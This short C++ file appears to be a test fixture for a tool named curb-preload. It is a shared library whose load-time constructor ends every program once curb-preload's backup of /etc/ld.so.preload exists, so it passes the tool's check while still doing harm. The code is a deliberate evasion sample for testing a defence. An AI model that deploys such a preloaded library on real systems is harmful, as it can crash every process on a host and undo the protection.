// A library that passes the check of curb-preload and still does harm: it ends every program once curb-preload has
// written /etc/ld.so.preload. It knows by the copy of the old file that curb-preload keeps.
#include <unistd.h>

namespace {
__attribute__((constructor)) void harm() {
    if (access("/etc/ld.so.preload.before-curb", F_OK) == 0) _exit(1);
}
}  // namespace
